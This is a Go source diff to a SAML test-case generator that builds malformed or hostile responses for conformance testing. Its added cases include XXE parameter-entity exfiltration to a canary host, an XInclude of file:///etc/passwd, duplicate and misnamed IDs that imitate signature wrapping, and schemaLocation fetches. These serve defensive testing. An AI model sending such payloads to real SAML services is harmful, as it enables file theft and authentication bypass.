@@ -16,9 +16,6 @@ func (g *generator) differential() {
 	const entities = "XXE, entities, DTD"
 	const class = "parser differential"
 	raw := func(class, name, about, reasons string, f func(m *message, s string) string, only ...string) {
-		if len(only) == 0 {
-			only = []string{assertionSigned, responseSigned}
-		}
 		g.bad(class, name, about, reasons, func(m *message) { m.raw = func(s string) string { return f(m, s) } }, only...)
 	}
 	before := func(text string) func(*message, string) string {
@@ -42,7 +39,26 @@ func (g *generator) differential() {
 	})
 	raw(entities, "doctype-attlist-id", "An attribute list that makes another attribute an ID", "response_unsafe", before(`<!DOCTYPE x [<!ATTLIST samlp:Response Destination ID #IMPLIED>]>`))
 	raw(entities, "entity-undefined", "An entity nobody defined", "response_malformed", replace(">Ana<", ">&e;<"))
-	raw(entities, "entity-xinclude", "An XInclude", "signature_invalid", replace("</samlp:Status>", `</samlp:Status><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`), responseSigned)
+	xinclude := func(href string) string {
+		return `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="` + href + `" parse="text"/>`
+	}
+	raw(entities, "entity-xinclude", "An XInclude of a file", "signature_invalid", replace("</samlp:Status>", "</samlp:Status>"+xinclude("file:///etc/passwd")), responseSigned, bothSigned)
+	raw(entities, "entity-xinclude-http", "An XInclude inside the assertion", "signature_invalid", replace("<Subject>", xinclude("https://canary.example/xi")+"<Subject>"))
+	g.bad(entities, "entity-xinclude-in-address", "An XInclude as the address, signed so", "email_invalid", func(m *message) {
+		m.attributes = claim("email", xinclude("https://canary.example/address"))
+	})
+	raw(entities, "doctype-parameter-entity-internal", "A parameter entity that makes another", "response_unsafe response_malformed",
+		before(`<!DOCTYPE x [<!ENTITY % a '<!ENTITY e "x">'> %a;]>`))
+	raw(entities, "doctype-exfiltration", "A parameter entity that sends a file away", "response_unsafe response_malformed",
+		before(`<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "https://canary.example/d.dtd">%d;]>`))
+	raw(entities, "doctype-lower-case", "A DOCTYPE in small letters", "response_unsafe response_malformed", before("<!doctype x>"))
+	raw(entities, "doctype-after-root", "A DOCTYPE after the root", "response_unsafe response_malformed", func(_ *message, s string) string {
+		return s + `<!DOCTYPE x SYSTEM "https://canary.example/after">`
+	})
+	raw(entities, "doctype-inside", "A DOCTYPE inside", "response_unsafe response_malformed", replace("<Subject>", `<!DOCTYPE x SYSTEM "https://canary.example/inside"><Subject>`))
+	raw(entities, "entity-in-attribute", "An entity in an attribute", "response_malformed", replace(`InResponseTo="`, `InResponseTo="&e;`))
+	raw(entities, "entity-character-too-large", "A reference to a character there is not", "response_malformed", replace(">Ana<", ">&#x110000;<"))
+	raw(entities, "entity-surrogate", "A reference to half a character", "signature_invalid response_malformed response_unsafe", replace(">Ana<", ">&#xd800;<"))
 
 	raw(class, "pi-stylesheet", "A stylesheet instruction", "response_unsafe", before(`<?xml-stylesheet href="https://canary.example/x.xsl"?>`))
 	raw(class, "pi-inside", "A processing instruction inside", "response_unsafe", replace("<Subject>", "<?x y?><Subject>"))
@@ -61,6 +77,23 @@ func (g *generator) differential() {
 	raw(class, "ns-undeclared", "A prefix nobody declared", "response_unsafe response_malformed", replace(`<Subject>`, `<Subject q:k="1">`))
 	raw(class, "ns-undeclare-prefix", "A prefix declared away", "response_unsafe response_malformed", replace(`<Subject>`, `<Subject xmlns:a="">`))
 	raw(class, "ns-xml", "The prefix xml for another namespace", "response_unsafe response_malformed", replace(`<Subject>`, `<Subject xmlns:xml="urn:x">`))
+	raw(class, "ns-undeclare-default", "The default namespace taken from the subject after signing", "signature_invalid", replace(`<Subject>`, `<Subject xmlns="">`))
+	g.bad(class, "ns-undeclare-default-signed", "A subject in no namespace, signed so", "response_incomplete", attribute("Subject", "xmlns", ""))
+	g.bad(class, "ns-id-prefixed", "An assertion whose ID is in the namespace of assertions", "signature_malformed response_incomplete", edited(func(doc *etree.Document) {
+		a := assertion(doc)
+		id := a.RemoveAttr("ID").Value
+		a.CreateAttr("xmlns:saml", nsA)
+		a.CreateAttr("saml:ID", id)
+	}))
+	raw(class, "ns-id-prefixed-twin", "The assertion's ID again in another namespace, on the response", "response_unsafe", func(m *message, s string) string {
+		return strings.Replace(s, "<samlp:Response ", `<samlp:Response samlp:ID="`+m.assertionID()+`" `, 1)
+	})
+	raw(class, "dup-id", "Two IDs on the assertion, the genuine one second", "response_unsafe response_malformed", replace(`<Assertion ID=`, `<Assertion ID="_forged" ID=`))
+	raw(class, "dup-id-after", "Two IDs on the assertion, the genuine one first", "response_unsafe response_malformed", func(m *message, s string) string {
+		return strings.Replace(s, `ID="`+m.assertionID()+`"`, `ID="`+m.assertionID()+`" ID="_forged"`, 1)
+	})
+	raw(class, "id-case", "The genuine ID as Id, another one as ID", "signature_malformed signature_invalid", replace(`<Assertion ID=`, `<Assertion ID="_forged" Id=`))
+	raw(class, "id-lower-case", "The genuine ID in small letters as well as another one", "response_unsafe signature_malformed signature_invalid", replace(`<Assertion ID=`, `<Assertion ID="_forged" id=`))
 	raw(class, "ns-rebind", "A prefix rebound after signing", "signature_invalid", func(_ *message, s string) string {
 		return strings.Replace(s, `<Subject>`, `<Subject xmlns="urn:other">`, 1)
 	})
@@ -77,52 +110,35 @@ func (g *generator) differential() {
 	raw(class, "encoding-overlong", "An overlong <", "response_unsafe", replace(">Ana<", ">\xc0\xbcx\xc0\xbe<"))
 	raw(class, "xml-1.1", "XML 1.1", "response_unsafe response_malformed", before(`<?xml version="1.1"?>`))
 	raw(class, "truncated", "Cut off", "response_malformed", func(_ *message, s string) string { return s[:len(s)/2] })
+	// Neither has a signature, so the mode says nothing.
 	raw(class, "not-xml", "No XML", "response_unsafe response_malformed", func(*message, string) string { return "hello" }, assertionSigned)
 	raw(class, "html", "An error page", "not_a_response response_unsafe response_malformed", func(*message, string) string {
 		return "<html><body>Sign in</body></html>"
 	}, assertionSigned)
-	raw(class, "assertion-alone", "An assertion without response", "not_a_response", func(m *message, s string) string {
-		return `<Assertion xmlns="` + nsA + `" ID="` + m.assertionID() + `"/>`
-	}, assertionSigned)
-	raw(class, "logout-response", "A LogoutResponse", "not_a_response", func(m *message, s string) string {
-		return `<samlp:LogoutResponse xmlns:samlp="` + nsP + `" ID="_l" Version="2.0" InResponseTo="` + m.request + `"/>`
-	}, assertionSigned)
-	raw(class, "response-wrong-namespace", "A Response of SAML 1.1", "not_a_response", func(m *message, s string) string {
-		return strings.Replace(s, nsP, "urn:oasis:names:tc:SAML:1.0:protocol", 1)
-	}, assertionSigned)
+	g.bad(class, "assertion-alone", "A signed assertion without response", "not_a_response", func(m *message) {
+		m.after = func(doc *etree.Document) { doc.SetRoot(standalone(assertion(doc))) }
+	})
+	g.bad(class, "logout-response", "A LogoutResponse of our request, signed or not", "not_a_response", edited(func(doc *etree.Document) {
+		remove(assertion(doc))
+		doc.Root().Tag = "LogoutResponse"
+	}), assertionSigned, responseSigned)
+	g.bad(class, "response-wrong-namespace", "A Response of SAML 1.1, signed so", "not_a_response", edited(func(doc *etree.Document) {
+		doc.Root().CreateAttr("xmlns:samlp", "urn:oasis:names:tc:SAML:1.0:protocol")
+	}))
+	g.bad(class, "response-no-namespace", "A Response in no namespace, signed so", "not_a_response", edited(func(doc *etree.Document) {
+		doc.Root().Space = ""
+	}))
+	g.bad(class, "schema-location-other", "Schema addresses that nobody fetches, in a response for another audience", "audience_mismatch", func(m *message) {
+		m.audience = "https://other.example"
+		m.before = schemaLocation
+	})
 }
 
-func (g *generator) sizes() {
-	const class = "size"
-	grown := func(name, about, reasons, mode string, grow Growth, place func(doc *etree.Document, mark *etree.Comment)) {
-		m := newMessage(name, mode)
-		m.after = func(doc *etree.Document) { place(doc, etree.NewComment("GROW")) }
-		grow.At = "<!--GROW-->"
-		c := m.caseFile(class, about)
-		c.Reasons, c.Grow = strings.Fields(reasons), []Growth{grow}
-		g.add("bad", name, g.build(m), c)
+// schemaLocation names documents that a validating parser would fetch.
+func schemaLocation(doc *etree.Document) {
+	for _, el := range []*etree.Element{doc.Root(), assertion(doc)} {
+		el.CreateAttr("xmlns:xsi", "http://www.w3.org/2001/XMLSchema-instance")
+		el.CreateAttr("xsi:schemaLocation", nsP+" https://canary.example/schema-"+el.Tag+".xsd")
+		el.CreateAttr("xsi:noNamespaceSchemaLocation", "https://canary.example/none-"+el.Tag+".xsd")
 	}
-	inRoot := func(doc *etree.Document, mark *etree.Comment) { doc.Root().InsertChildAt(1, mark) }
-	inSubject := func(doc *etree.Document, mark *etree.Comment) { find(doc, "Subject").AddChild(mark) }
-	const large, complex = "response_too_large", "response_too_complex"
-	grown("deep-33", "33 levels", complex, assertionSigned, Growth{Text: "<a>", Times: 33, End: "</a>"}, inRoot)
-	grown("deep-1000", "A thousand levels", complex, assertionSigned, Growth{Text: "<a>", Times: 1000, End: "</a>"}, inRoot)
-	grown("deep-20000", "Twenty thousand levels", complex, assertionSigned, Growth{Text: "<a>", Times: 20000, End: "</a>"}, inRoot)
-	grown("deep-100000", "A hundred thousand levels", large, assertionSigned, Growth{Text: "<a>", Times: 100000, End: "</a>"}, inRoot)
-	grown("wide-1000", "A thousand elements", complex, assertionSigned, Growth{Text: "<a/>", Times: 1000}, inRoot)
-	grown("wide-1000-signed", "A thousand elements inside the assertion", complex+" signature_invalid", assertionSigned, Growth{Text: "<a/>", Times: 1000}, inSubject)
-	grown("wide-60000", "Sixty thousand elements", complex, responseSigned, Growth{Text: "<a/>", Times: 60000}, inRoot)
-	grown("attributes-5000", "An element with five thousand attributes of one name", "response_unsafe response_malformed", responseSigned, Growth{Text: `<a b="1" b="1"/>`, Times: 400}, inRoot)
-	grown("namespaces-2000", "Elements that declare namespaces", complex, responseSigned, Growth{Text: `<n:a xmlns:n="urn:x"/>`, Times: 2000}, inRoot)
-	grown("namespaces-800", "Eight hundred elements that declare namespaces", "signature_invalid "+complex, responseSigned, Growth{Text: `<n:a xmlns:n="urn:x"/>`, Times: 800}, inRoot)
-	grown("assertions-300", "Three hundred assertions", "assertions_several "+complex, assertionSigned, Growth{Text: `<Assertion xmlns="` + nsA + `"/>`, Times: 300}, inRoot)
-	grown("assertions-2000", "Two thousand assertions", complex, assertionSigned, Growth{Text: `<Assertion xmlns="` + nsA + `"/>`, Times: 2000}, inRoot)
-	grown("text-250k", "250 kB of text", "signature_invalid "+large, responseSigned, Growth{Text: "xxxxxxxxxx", Times: 24500}, inRoot)
-	grown("text-1m", "A megabyte of text", large, assertionSigned, Growth{Text: "xxxxxxxxxx", Times: 100000}, inRoot)
-	grown("comments-20000", "Twenty thousand comments", complex, assertionSigned, Growth{Text: "<!--x-->", Times: 20000}, inRoot)
-	grown("entities-30000", "Thirty thousand character references", "signature_invalid", responseSigned, Growth{Text: "&#65;", Times: 30000}, inRoot)
-	grown("many-references", "Five hundred References", "signature_malformed "+complex, assertionSigned, Growth{Text: `<Reference URI="#x"/>`, Times: 500}, func(doc *etree.Document, mark *etree.Comment) {
-		find(doc, "SignedInfo").AddChild(mark)
-	})
-	grown("many-signatures", "Four hundred signatures", "signature_misplaced", assertionSigned, Growth{Text: `<Signature xmlns="` + nsDS + `"/>`, Times: 400}, inRoot)
 }
